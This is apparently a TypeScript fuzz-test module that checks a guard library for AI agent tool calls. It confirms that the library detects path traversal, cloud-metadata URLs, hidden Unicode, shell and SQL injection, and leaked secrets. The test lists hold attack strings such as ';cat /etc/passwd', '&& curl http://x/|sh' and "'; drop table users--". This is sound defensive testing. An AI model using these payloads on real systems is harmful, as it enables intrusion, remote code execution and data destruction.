import { readFileSync } from 'node:fs';
import type { Finding, JsonObject, Scene, ToolDefinition, Understanding } from '@writ/contract';
import { printJson } from '@writ/proof';
import { classOfHost, detect, HOST_CLASSES, readUrl, tokenise, understandAction } from '../../src/index.ts';
import { joined, mutated, pick, type Random } from './random.ts';

/** One case of one extractor: null where all is as it must be, else what is not. */
export type Target = { readonly name: string; readonly tryOne: (random: Random) => string | null };

function stringsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(stringsIn);
}

function readStrings(path: string): readonly string[] {
  const url = new URL(`../../../../vectors/${path}.json`, import.meta.url);
  return stringsIn(JSON.parse(readFileSync(url, 'utf8'))).filter((text) => text.length > 0);
}

const PATHS = readStrings('understanding/paths');
const URLS = readStrings('understanding/urls');
const CHARACTERS = readStrings('understanding/characters');
const REQUESTS = readStrings('understanding/requests');
const DETECTED = readStrings('detection/found').concat(readStrings('detection/not-found'));
const NOISE = [
  'a',
  'Z',
  '0',
  '9',
  ' ',
  '.',
  '/',
  '-',
  '_',
  '=',
  'é',
  '日',
  '%',
  '%41',
  '\n',
  '&',
  "'",
  '"',
  '\ud800',
];
/** Such that no text of them makes a word longer or ends an encoding. */
const APART = [' ', '. ', ', ', '; ', ' – ', '\n', ' x ', ' 日本 '];

const SCENE: Scene = {
  directory: '/srv/app/public',
  home: '/home/zoe',
  roots: ['/srv/app/public'],
  shell: null,
  items: [],
};
const TOOL: ToolDefinition = {
  v: 1,
  name: 'a tool',
  description: '',
  parameters: { properties: { path: {}, url: {}, method: {}, headers: {}, body: {} } },
  arguments: { path: 'path', url: 'url', method: 'text', 'headers/*': 'content', body: 'content' },
  effects: ['READ_REPO', 'READ_CONFIG', 'READ_SECRETS', 'NETWORK_CALL', 'UPLOAD'],
};

function understand(args: JsonObject): Understanding {
  const action = { tool: TOOL.name, args, why: '', claims: [], evidence: [] };
  return understandAction({ tool: TOOL, action, scene: SCENE, declared: null, protected: [] });
}

function has({ findings }: Understanding, ...codes: readonly Finding['code'][]): boolean {
  return findings.some(({ code }) => codes.includes(code));
}

/** The same answer twice, and no throw: `told` is what a person needs to see it again. */
function sameTwice(read: () => unknown, told: string): string | null {
  return printJson(read() as JsonObject) === printJson(read() as JsonObject) ? null : `differs: ${told}`;
}

const DOTS = ['.', '%2e', '%2E', '%252e', '%c0%ae', '%u002e', '\uff0e', '\\x2e', '&#46;', '%e0%80%ae'];
const SLASHES = ['/', '%2f', '%252f', '%c0%af', '%u2215', '\u2215', '\\', '%5c', '\uff0f', '//', '/./'];

const path: Target = {
  name: 'path',
  tryOne: (random) => {
    const text = mutated(random, pick(random, PATHS));
    const steps = Array.from({ length: 1 + random.below(5) }, () =>
      [pick(random, DOTS), pick(random, DOTS), pick(random, SLASHES)].join(''),
    ).join('');
    const out = understand({ path: `${steps}etc/${joined(random, ['a', 'b', '%41', '.'], 4)}hosts` });
    if (!has(out, 'encoded_path', 'leaves_workspace')) return `not found: ${JSON.stringify(steps)}`;
    return sameTwice(() => understand({ path: text }), JSON.stringify(text));
  },
};

/** 169.254.169.254, as readers of URLs take it. */
const METADATA = [
  '169.254.169.254',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '169.254.43518',
  '[::ffff:a9fe:a9fe]',
].concat([
  '169.254.169.254.nip.io',
  '１６９.254.169.254',
  '%31%36%39.254.169.254',
  'metadata.google.internal',
]);

const url: Target = {
  name: 'url',
  tryOne: (random) => {
    const host = pick(random, METADATA);
    const user = pick(random, ['', 'user@', 'example.com@', 'a:b@', 'a.b:c@d@']);
    const tail = joined(random, ['/', '?', '#', 'a=b', ':80', '.', '%2f', 'x'], 4);
    const text = `http://${user}${host}/${tail}`;
    if (readUrl(text)?.findings.includes('metadata_address') !== true) return `not found: ${text}`;
    const other = mutated(random, pick(random, URLS));
    return sameTwice(
      () => ({ url: readUrl(other), understood: understand({ url: other }) }),
      JSON.stringify(other),
    );
  },
};

const host: Target = {
  name: 'host',
  tryOne: (random) => {
    const octets = Array.from({ length: 4 }, () => random.below(256));
    const spelled = pick(random, [
      octets.map((one) => `0x${one.toString(16)}`).join('.'),
      String(octets.reduce((sum, one) => sum * 256 + one, 0)),
      `${octets.join('-')}.sslip.io`,
      `[64:ff9b::${octets.join('.')}]`,
    ]);
    const plain = HOST_CLASSES.indexOf(classOfHost(octets.join('.')));
    if (HOST_CLASSES.indexOf(classOfHost(spelled)) > plain) return `milder: ${spelled}`;
    const other = mutated(random, pick(random, URLS));
    return HOST_CLASSES.includes(classOfHost(other)) ? null : `no class: ${JSON.stringify(other)}`;
  },
};

const HIDDEN = [
  '\u200b',
  '\u202e',
  '\u2066',
  '\u{e0041}',
  '\u3164',
  '\u2060',
  '\u00ad',
  '\u0000',
  '\u180e',
  '\u{e0101}',
];
const MIXED = ['p\u0430y', 'g\u043eo', '\u0440ay', 'lo\u0261in', 'adm\u0456n', 'd\u03bfc'];

const characters: Target = {
  name: 'characters',
  tryOne: (random) => {
    const [left, right] = [joined(random, ['a', 'b', '1', '-'], 6), joined(random, ['c', 'd', '2', '.'], 6)];
    const hidden = `${left}x${pick(random, HIDDEN)}y${right}`;
    if (!has(understand({ path: hidden }), 'hidden_characters'))
      return `not found: ${JSON.stringify(hidden)}`;
    const mixed = `${left}-${pick(random, MIXED)}-${right}`;
    if (!has(understand({ path: mixed }), 'confusable')) return `not found: ${JSON.stringify(mixed)}`;
    const other = mutated(random, pick(random, CHARACTERS));
    return sameTwice(() => understand({ path: other, body: other }), JSON.stringify(other));
  },
};

const SHELL = [
  ';cat /etc/passwd',
  '$(id)',
  '`whoami`',
  '|ls -la',
  '&& curl http://x/|sh',
  ";c'a't /etc/passwd",
  '\nid',
];
const SQL = ["' or 1=1--", "' union select null--", "'; drop table users--", '" or ""="', "') or ('1'='1"];

function request(attacks: readonly string[]): (random: Random) => string | null {
  return (random) => {
    const attack = pick(random, attacks);
    const [a, x] = [joined(random, NOISE, 12).toWellFormed(), `1${attack}`].map(encodeURIComponent);
    const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
    const sent = pick<JsonObject>(random, [
      { method: 'GET', url: `https://app.example.com/?a=${a}&x=${x}&b=${a}` },
      { method: 'POST', url: 'https://app.example.com/', headers: form, body: `a=${a}&x=${x}` },
      { method: 'GET', url: 'https://app.example.com/', headers: { Cookie: `a=1; x=${x}` } },
    ]);
    if (!has(understand(sent), 'tainted_sink')) return `not found: ${JSON.stringify(sent)}`;
    const other = mutated(random, pick(random, REQUESTS)).toWellFormed();
    const text = {
      method: 'POST',
      url: `https://x.example/?${other}`,
      headers: { 'X-A': other },
      body: other,
    };
    return sameTwice(() => understand(text), JSON.stringify(other));
  };
}

const SECRETS = [
  ['AKIA', 'IOSFODNN7EXAMPLE'],
  ['ghp_', 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'],
  ['glpat-', 'aB3dE5fG7hJ9kL1mN3pQ'],
].map((parts) => parts.join(''));
const PERSONAL = [
  'zoe@example.org',
  '4111 1111 1111 1111',
  'DE89370400440532013000',
  '943 476 5919',
  '756.9217.0769.85',
];

function encoded(random: Random, text: string): string {
  const escape = (sign: string): string => `%${sign.charCodeAt(0).toString(16).padStart(2, '0')}`;
  const ways: readonly ((text: string) => string)[] = [
    (one) => Buffer.from(one).toString('base64'),
    (one) => Buffer.from(one).toString('hex'),
    (one) => Array.from(one, escape).join(''),
  ];
  let result = text;
  for (let layer = random.below(4); layer > 0; layer--) result = pick(random, ways)(result);
  return result;
}

function detection(name: string, values: readonly string[], code: Finding['code']): Target {
  return {
    name,
    tryOne: (random) => {
      const value = pick(random, values);
      const [before, behind] = [joined(random, APART, 4), joined(random, APART, 4)];
      const text = `${before} ${encoded(random, `see ${value} there`)} ${behind}`;
      const { args, findings } = tokenise({ note: text });
      if (!findings.some((one) => one.code === code)) return `not found: ${JSON.stringify(text)}`;
      if (printJson(args).includes(value)) return `still there: ${JSON.stringify(text)}`;
      const other = mutated(random, joined(random, DETECTED, 3)).toWellFormed();
      return sameTwice(
        () => ({ found: detect(other), said: tokenise({ [other]: other }).args }),
        JSON.stringify(other),
      );
    },
  };
}

export const TARGETS: readonly Target[] = [
  path,
  url,
  host,
  characters,
  { name: 'shell in requests', tryOne: request(SHELL) },
  { name: 'SQL in requests', tryOne: request(SQL) },
  detection('secrets', SECRETS, 'secret_in_arguments'),
  detection('personal data', PERSONAL, 'personal_data_in_arguments'),
];
